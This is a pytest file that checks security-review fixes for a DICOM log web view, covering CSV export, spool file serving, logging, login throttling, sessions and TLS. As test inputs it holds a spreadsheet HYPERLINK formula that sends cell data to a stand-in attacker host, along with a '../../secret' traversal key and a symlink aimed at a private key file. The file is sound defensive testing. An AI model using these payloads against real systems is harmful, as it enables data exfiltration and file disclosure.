"""The web view's security review: each finding's fix, checked in-process (Starlette's test
client against the real app and a real SQLite log) unless the real server is needed."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import logging
import re

import pytest
from starlette.testclient import TestClient

from dicomnode.logdb.store import LogStore
from dicomnode.web.app import build_app
from dicomnode.web.passwords import hash_password
from dicomnode.web.settings import WebSettings
from tests.test_web_review import insert_decision

TOKEN = "reader-token-0123456789"
PASSWORD = "correct horse battery"
REVIEWERS = {"ana": hash_password(PASSWORD)}
BASE = "http://127.0.0.1"


@pytest.fixture
def store(tmp_path):
    with LogStore.open(f"sqlite:///{tmp_path / 'log.db'}") as log:
        yield log


def client_for(store: LogStore, **settings) -> TestClient:
    settings.setdefault("token", TOKEN)
    settings.setdefault("reviewers", REVIEWERS)
    return TestClient(build_app(store, WebSettings(**settings)), base_url=BASE)


def bearer() -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKEN}"}


def csrf_of(page: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def login(client: TestClient, password: str = PASSWORD, name: str = "ana"):
    token = csrf_of(client.get("/login").text)
    return client.post("/login", data={"csrf": token, "name": name, "password": password,
                                       "next": "/review"}, follow_redirects=False)  # fmt: skip


# 1. CSV formula injection


def test_csv_export_defuses_formulas_and_jsonl_keeps_values(store):
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    row = insert_decision(store, 1, calling_ae="=1+1", patient_id="+41", decision_key="k1",
                          accession_number="-2+3", body_part_examined="@SUM(A1)")
    store.record_verdict(row, "ana", "wrong", "PA", hyperlink)
    client = client_for(store)
    (exported,) = csv.DictReader(io.StringIO(client.get("/export.csv", headers=bearer()).text))
    assert exported["calling_ae"] == "'=1+1" and exported["patient_id"] == "'+41"
    assert exported["accession_number"] == "'-2+3"
    assert exported["body_part_examined"] == "'@SUM(A1)"
    assert exported["verdict_note"] == "'" + hyperlink
    assert exported["modality"] == "CR" and exported["verdict"] == "wrong"  # plain: untouched
    (line,) = client.get("/export.jsonl", headers=bearer()).text.splitlines()
    values = json.loads(line)
    assert values["calling_ae"] == "=1+1" and values["verdict_note"] == hyperlink


# 2. the full image: from the node's spool only, wherever in it the image has moved


def spool_with_forwarded(tmp_path, name: str = "00000000000000000007-000001"):
    spool = tmp_path / "spool"
    film = spool / "sent" / "PACS" / f"{name}.dcm"
    film.parent.mkdir(parents=True)
    (spool / "processing").mkdir()
    film.write_bytes(b"\0" * 128 + b"DICM forwarded")
    return spool, film


def test_full_image_is_served_from_the_spool_only(store, tmp_path):
    spool, film = spool_with_forwarded(tmp_path)
    secret = tmp_path / "secret.pem"
    secret.write_text("PRIVATE KEY MATERIAL\n")
    forwarded = insert_decision(store, 1, decision_key=film.stem,
                                spool_path=str(spool / "processing" / film.name))
    outside = insert_decision(store, 2, decision_key="k-outside", spool_path=str(secret))
    (spool / "sent" / "PACS" / "k-link.dcm").symlink_to(secret)  # a link inside the spool
    linked = insert_decision(store, 3, decision_key="k-link",
                             spool_path=str(spool / "processing" / "k-link.dcm"))
    escaping = insert_decision(store, 4, decision_key="../../secret",
                               spool_path=str(spool / "processing" / "x.dcm"))
    client = client_for(store, spool_root=str(spool))
    response = client.get(f"/decision/{forwarded}/image", headers=bearer())
    assert response.status_code == 200 and response.content == film.read_bytes()
    assert 'id="full-image"' in client.get(f"/decision/{forwarded}", headers=bearer()).text
    for row in (outside, linked, escaping):
        response = client.get(f"/decision/{row}/image", headers=bearer())
        assert response.status_code == 404 and b"PRIVATE KEY" not in response.content, row
        assert 'id="full-image"' not in client.get(f"/decision/{row}", headers=bearer()).text
    # no spool configured: no file at all
    assert client_for(store).get(f"/decision/{forwarded}/image",
                                 headers=bearer()).status_code == 404


def test_locate_finds_a_name_in_every_spool_state(tmp_path):
    from dicomnode.spool import locate

    spool, film = spool_with_forwarded(tmp_path)
    logged = str(tmp_path / "elsewhere" / "processing" / film.name)  # the node ran elsewhere
    assert locate(spool, logged) == film
    assert locate(spool, None, film.stem) == film
    for state in ("incoming", "processing", "outgoing/CT", "failed/_pipeline"):
        moved = spool / state / film.name
        moved.parent.mkdir(parents=True, exist_ok=True)
        film.rename(moved)
        assert locate(spool, logged) == moved, state
        film = moved
    assert locate(spool, str(tmp_path / "nothing.dcm")) is None
    assert locate(tmp_path / "no-spool", logged) is None


# 3. no patient data in logs: the 500 path logs one line, SQL errors hide their parameters


def test_a_failing_request_logs_one_line_without_values_or_traceback(store, caplog):
    import urllib.error
    import urllib.request

    from sqlalchemy import text

    from dicomnode.web.server import start_web

    insert_decision(store, 1)
    with store.engine.begin() as connection:  # every query of the search page now fails
        connection.execute(text("ALTER TABLE instances RENAME TO instances_gone"))
    caplog.set_level(logging.DEBUG)
    web = start_web(store, port=0, token=TOKEN)
    try:
        request = urllib.request.Request(web.url + "?patient=PATIENT-ID-4711&study=1.2.3.4711",
                                         headers=bearer())  # fmt: skip
        with pytest.raises(urllib.error.HTTPError) as failed:
            urllib.request.urlopen(request, timeout=30)
        assert failed.value.code == 500 and b"4711" not in failed.value.read()
    finally:
        web.stop()
    logged = "\n".join(f"{r.name} {r.getMessage()} {r.exc_text or ''} {r.exc_info or ''}"
                       for r in caplog.records)  # fmt: skip
    assert "4711" not in logged and "Traceback" not in logged, logged
    (line,) = [r for r in caplog.records if r.levelno >= logging.ERROR]
    assert line.getMessage() == "web view: GET / failed: OperationalError" and not line.exc_info


def test_sql_errors_hide_bound_parameters(store):
    from sqlalchemy import select
    from sqlalchemy.exc import SQLAlchemyError

    from dicomnode.logdb.models import InstanceRow

    with store.engine.begin() as connection:
        connection.exec_driver_sql("ALTER TABLE instances RENAME TO instances_gone")
    with pytest.raises(SQLAlchemyError) as failed, store.engine.connect() as connection:
        connection.execute(select(InstanceRow).where(InstanceRow.patient_id == "PATIENT-4711"))
    assert "PATIENT-4711" not in str(failed.value)


# 4. login: off the event loop, throttled, each failure logged


def test_failed_logins_lock_the_name_and_the_peer_out_and_are_logged(store, caplog):
    caplog.set_level(logging.INFO, logger="dicomnode.web")
    client = client_for(store, reviewers={**REVIEWERS, "bo": REVIEWERS["ana"]})
    for attempt in range(5):
        assert login(client, f"wrong password {attempt}").status_code == 401
    refused = login(client)  # the right password, but locked out now
    assert refused.status_code == 429 and "Too many failed logins" in refused.text
    assert 0 < int(refused.headers["Retry-After"]) <= 60
    assert login(client, name="bo").status_code == 429  # the same peer, another name
    failures = [r.getMessage() for r in caplog.records if "failed login" in r.getMessage()]
    assert failures == ["web view: failed login for 'ana' from testclient"] * 5
    assert all(r.levelno == logging.WARNING for r in caplog.records
               if "login" in r.getMessage())  # fmt: skip
    assert "wrong password" not in caplog.text and PASSWORD not in caplog.text
    throttle = client.app.state.throttle
    later = throttle.clock() + 61
    throttle.clock = lambda: later  # the minute is over
    assert login(client).status_code == 303


def test_login_does_not_block_other_requests(store, monkeypatch):
    import threading
    import time
    import urllib.parse
    import urllib.request

    from dicomnode.web import auth
    from dicomnode.web.server import start_web

    def slow_verify(password: str, stored: str) -> bool:
        time.sleep(1.5)
        return False

    monkeypatch.setattr(auth, "verify_password", slow_verify)
    web = start_web(store, port=0, reviewers=REVIEWERS)
    try:
        opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor())
        page = opener.open(web.url + "login", timeout=30).read().decode()
        form = urllib.parse.urlencode({"csrf": csrf_of(page), "name": "ana",
                                       "password": "x" * 12}).encode()  # fmt: skip
        slow = threading.Thread(target=lambda: _swallow(opener, web.url + "login", form))
        slow.start()
        time.sleep(0.3)  # the login is verifying now
        started = time.monotonic()
        with urllib.request.urlopen(web.url + "login", timeout=30) as response:
            assert response.status == 200
        assert time.monotonic() - started < 1.0  # served while the password was checked
        slow.join(timeout=30)
    finally:
        web.stop()


def _swallow(opener, url: str, data: bytes) -> None:
    import urllib.error

    with contextlib.suppress(urllib.error.HTTPError):
        opener.open(url, data=data, timeout=30).read()


# 5. scrypt at OWASP's cost; weaker stored hashes refused


def test_weak_password_hashes_are_refused_at_config_load():
    from dicomnode.config import ConfigError
    from dicomnode.config_file import parse_config
    from dicomnode.web.passwords import parse_hash
    from dicomnode.web.settings import WebConfigError

    assert parse_hash(REVIEWERS["ana"])[:3] == (2**14, 8, 5)
    weak = REVIEWERS["ana"].replace("scrypt$16384$8$5$", "scrypt$1024$1$1$")
    p1 = REVIEWERS["ana"].replace("scrypt$16384$8$5$", "scrypt$16384$8$1$")
    for stored in (weak, p1):
        with pytest.raises(ConfigError, match="dicomnode web hash-password"):
            parse_config(f"web:\n  reviewers:\n    - {{name: bo, password_hash: \"{stored}\"}}\n")
        with pytest.raises(WebConfigError, match="minimum cost"):
            WebSettings(reviewers={"bo": stored})
    strong = REVIEWERS["ana"].replace("scrypt$16384$8$5$", "scrypt$131072$8$1$")
    assert parse_hash(strong)[:3] == (2**17, 8, 1)  # OWASP's first choice is accepted


# 6. sessions: revoked at logout, idle limit, bound to the stored password hash


def verdict_rows(store: LogStore) -> int:
    from sqlalchemy import func, select

    from dicomnode.logdb.models import VerdictRow

    with store.engine.connect() as connection:
        return connection.execute(select(func.count()).select_from(VerdictRow)).scalar_one()


def post_verdict(client: TestClient, row: int, csrf: str, html: bool = False):
    headers = {"Accept": "text/html,application/xhtml+xml"} if html else {}
    return client.post(f"/decision/{row}/verdict", headers=headers, follow_redirects=False,
                       data={"csrf": csrf, "verdict": "wrong", "true_view": "PA"})  # fmt: skip


def signed_in(store: LogStore, **settings) -> tuple[TestClient, int, str]:
    row = insert_decision(store, 1)
    client = client_for(store, **settings)
    assert login(client).status_code == 303
    return client, row, csrf_of(client.get(f"/decision/{row}").text)


def test_a_cookie_copied_before_logout_is_dead_after_it(store):
    client, row, csrf = signed_in(store)
    stolen = client.cookies.get("dicomnode_session")
    assert client.post("/logout", data={"csrf": csrf}, follow_redirects=False).status_code == 303
    replay = TestClient(client.app, base_url=BASE, cookies={"dicomnode_session": stolen})
    assert post_verdict(replay, row, csrf).status_code == 401
    response = post_verdict(replay, row, csrf, html=True)  # a browser: to the login page
    assert response.status_code == 303
    assert response.headers["location"] == f"/login?next=%2Fdecision%2F{row}"
    assert verdict_rows(store) == 0


def test_an_idle_session_ends(store):
    client, row, csrf = signed_in(store, session_idle_min=1)
    sessions = client.app.state.sessions
    start = sessions.clock()
    sessions.clock = lambda: start + 50  # used within the minute: still live, and touched
    assert 'id="reviewer">ana<' in client.get("/review").text
    sessions.clock = lambda: start + 100  # 50 s since the last request: live
    assert 'id="reviewer">ana<' in client.get("/review").text
    sessions.clock = lambda: start + 170  # 70 s idle
    assert post_verdict(client, row, csrf).status_code == 401
    assert verdict_rows(store) == 0
    assert 'id="reviewer"' not in client.get("/login").text


def test_a_changed_password_ends_the_session(store):
    secret = "session-secret-for-tests-0123456789abcdef"
    client, row, csrf = signed_in(store, session_secret=secret)
    cookie = client.cookies.get("dicomnode_session")
    same_hash = client_for(store, session_secret=secret)  # a restart with the same config
    same_hash.cookies.set("dicomnode_session", cookie)
    assert 'id="reviewer">ana<' in same_hash.get("/review").text
    changed = client_for(store, session_secret=secret,
                         reviewers={"ana": hash_password("a new password here")})
    changed.cookies.set("dicomnode_session", cookie)
    assert post_verdict(changed, row, csrf).status_code == 401 and verdict_rows(store) == 0


# 9. the reader's session holds a keyed fingerprint of the token, not a plain hash


def test_reader_cookie_fingerprint_is_keyed_with_the_session_secret(store):
    import base64
    import hashlib

    values = []
    for secret in ("first-session-secret-0123456789abcdef", "other-session-secret-0123456789ab"):
        client = client_for(store, session_secret=secret)
        assert client.get(f"/?token={TOKEN}").status_code == 200
        payload = client.cookies.get("dicomnode_session").split(".")[0]
        session = json.loads(base64.b64decode(payload + "=" * (-len(payload) % 4)))
        values.append(session["reader"])
        assert client.get("/").status_code == 200  # the session alone reads on
    plain = hashlib.sha256(b"dicomnode-web-reader:" + TOKEN.encode()).hexdigest()
    assert values[0] != values[1] and not {plain[:24], plain} & set(values)


# 11. a verdict posted after the session ended: a browser is sent to log in again


def test_expired_session_verdict_redirects_a_browser_to_login(store):
    for settings in ({}, {"token": None}):  # with a token (nobody), loopback (a reader)
        client, row, csrf = signed_in(store, **settings)
        sessions = client.app.state.sessions
        later = sessions.clock() + 31 * 60
        sessions.clock = lambda later=later: later
        response = post_verdict(client, row, csrf, html=True)
        assert response.status_code == 303, settings
        assert response.headers["location"] == f"/login?next=%2Fdecision%2F{row}"
        assert f'name="next" value="/decision/{row}"' in client.get(
            response.headers["location"]).text
        assert verdict_rows(store) == 0


# 7. who saw what: one access line per decision, study, image, preview and export


def test_access_lines_name_user_route_rows_and_peer_never_patient_data(store, tmp_path, caplog):
    from tests.test_web_review import add_preview

    spool, film = spool_with_forwarded(tmp_path)
    row = insert_decision(store, 1, decision_key=film.stem, patient_id="PATIENT-4711",
                          accession_number="ACC-4711")
    insert_decision(store, 2, patient_id="PATIENT-4711")
    add_preview(store, film.stem, 90)
    caplog.set_level(logging.INFO, logger="dicomnode.web.access")
    client = client_for(store, spool_root=str(spool))
    for path in (f"/decision/{row}", f"/decision/{row}/image", f"/preview/{film.stem}",
                 "/export.csv?patient=PATIENT-4711"):
        assert client.get(path, headers=bearer()).status_code == 200, path
    assert login(client).status_code == 303
    study = client.get(f"/decision/{row}").text.split('href="/study/')[1].split('"')[0]
    assert client.get(f"/study/{study}").status_code == 200
    lines = [r.getMessage() for r in caplog.records if r.name == "dicomnode.web.access"]
    assert lines == [
        f"web access: reader GET /decision/{{id:int}} (id {row}) from testclient",
        f"web access: reader GET /decision/{{id:int}}/image (id {row}) from testclient",
        f"web access: reader GET /preview/{{key}} (key {film.stem}) from testclient",
        "web access: reader GET /export.{kind:str} (2 rows) from testclient",
        f"web access: ana GET /decision/{{id:int}} (id {row}) from testclient",
        "web access: ana GET /study/{uid:path} (2 decisions) from testclient",
    ]
    assert all(r.levelno == logging.INFO for r in caplog.records if r.name.endswith("access"))
    assert "4711" not in caplog.text and study not in caplog.text


# 8. TLS 1.2 at least, forward-secret AEAD suites only


def test_tls_refuses_old_protocols_and_weak_suites(store, tmp_path):
    import socket
    import ssl
    import subprocess

    from dicomnode.web.server import TLS_CIPHERS, start_web

    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
                    "-subj", "/CN=127.0.0.1", "-keyout", str(key), "-out", str(cert)],
                   check=True, capture_output=True, timeout=60)  # fmt: skip
    web = start_web(store, port=0, reviewers=REVIEWERS, tls_cert=str(cert), tls_key=str(key))

    def handshake(version: ssl.TLSVersion, ciphers: str) -> str:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.minimum_version = context.maximum_version = version
        context.set_ciphers(ciphers)
        with socket.create_connection(("127.0.0.1", web.port), timeout=10) as raw, \
                context.wrap_socket(raw) as tls:
            return tls.cipher()[0]

    try:
        # passed explicitly (older uvicorns defaulted to "TLSv1"; this Python's own default
        # would refuse the handshakes below too, so this line is what fails without the fix)
        assert web.server.config.ssl_ciphers == TLS_CIPHERS
        assert handshake(ssl.TLSVersion.TLSv1_2, "ECDHE-RSA-AES128-GCM-SHA256")
        assert handshake(ssl.TLSVersion.TLSv1_3, "DEFAULT")
        for version, ciphers in ((ssl.TLSVersion.TLSv1_2, "ECDHE-RSA-AES128-SHA"),  # CBC
                                 (ssl.TLSVersion.TLSv1_2, "AES128-GCM-SHA256"),  # no ECDHE
                                 (ssl.TLSVersion.TLSv1_1, "ALL:@SECLEVEL=0")):
            with pytest.raises((ssl.SSLError, ConnectionError)):
                handshake(version, ciphers)
    finally:
        web.stop()
